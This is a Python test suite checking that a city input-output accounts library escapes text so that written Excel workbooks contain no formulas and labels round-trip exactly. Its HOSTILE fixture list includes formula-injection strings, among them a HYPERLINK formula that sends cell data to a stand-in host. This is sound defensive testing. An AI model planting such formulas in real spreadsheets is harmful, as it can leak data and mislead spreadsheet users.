"""Spreadsheet injection: text in every written workbook is never a formula; labels round-trip."""

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from mrio_city import MRIOTable, compute_accounts
from mrio_city.exports.accounts import write_accounts_excel
from mrio_city.exports.workbook import read_workbook_sheets, write_workbook
from mrio_city.io.excel_table import read_excel_table, write_excel_table
from mrio_city.io.xlsx import FORMULA_PREFIXES, escape_cell_text, unescape_cell_text

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "'quoted",
    "'=already",
]


def _hostile_table():
    Z = np.array([[10, 20, 5, 5], [15, 5, 10, 0], [5, 0, 20, 10], [0, 10, 15, 5]], float)
    Y = np.array([[40, 20], [50, 20], [15, 50], [10, 60]], float)
    return MRIOTable(
        Z,
        Y,
        np.array([[50, 10, 20, 5]], float),
        cities=[HOSTILE[0], "-Beijing"],
        sectors=["+s1", "@s2"],
        categories=["=cat"],
        stressors=["=CO2"],
        units={"=CO2": "-t"},
        population=np.array([10.0, 5.0]),
        gdp=np.array([135.0, 130.0]),
        city_attributes=pd.DataFrame(
            {"province": ["=1+1", "\tP"]}, index=pd.Index([HOSTILE[0], "-Beijing"], name="city")
        ),
        meta={"name": "=name", "description": "-description", "year": 2012},
    )


def _no_formula_cells(path):
    wb = openpyxl.load_workbook(path)  # not data_only: formulas would show as type 'f'
    try:
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(FORMULA_PREFIXES), (
                            f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                        )
    finally:
        wb.close()


@pytest.mark.parametrize("text", HOSTILE + ["plain", "", "a=b", "中文"])
def test_escape_is_undone_exactly(text):
    escaped = escape_cell_text(text)
    assert not escaped.startswith(FORMULA_PREFIXES)
    assert unescape_cell_text(escaped) == text
    assert (escaped == text) == (not text.startswith((*FORMULA_PREFIXES, "'")))


@given(st.text(max_size=12))
def test_escape_round_trips_any_text(text):
    assert unescape_cell_text(escape_cell_text(text)) == text
    assert not escape_cell_text(text).startswith(FORMULA_PREFIXES)


def test_table_workbook_round_trip_keeps_hostile_labels(tmp_path):
    table = _hostile_table()
    path = write_excel_table(table, tmp_path / "t.xlsx")
    _no_formula_cells(path)
    ws = openpyxl.load_workbook(path)["Z"]
    assert ws["C1"].value == "'" + HOSTILE[0]  # visible as text, not evaluated
    back = read_excel_table(path)
    for field in ("cities", "sectors", "categories", "stressors"):
        assert list(getattr(back, field)) == list(getattr(table, field)), field
    assert back.units == table.units
    assert list(back.city_attributes["province"]) == ["=1+1", "\tP"]
    assert back.name == "=name" and back.meta.description == "-description"
    np.testing.assert_array_equal(back.Z, table.Z)


def test_result_workbooks_hold_no_formula(tmp_path):
    table = _hostile_table()
    accounts = compute_accounts(table)
    path = write_accounts_excel(accounts, tmp_path / "acc.xlsx", table=table)
    _no_formula_cells(path)
    sheets = read_workbook_sheets(path)
    assert list(sheets["cities"]["city"]) == list(table.cities)
    assert "=CO2 [-t]" in sheets["production_based"].columns
    frame = pd.DataFrame({"=x": ["=1", "+2", "ok"]}, index=pd.Index(["@a", "b", "c"], name="-k"))
    path = write_workbook(
        tmp_path / "f.xlsx", {"=sheet": frame}, metadata={"=key": "=value"}, readme="=readme"
    )
    _no_formula_cells(path)
    back = read_workbook_sheets(path)
    assert list(back["=sheet"].columns) == ["-k", "=x"]
    assert list(back["=sheet"]["=x"]) == ["=1", "+2", "ok"]
    assert back["README"]["text"][0] == "=readme"
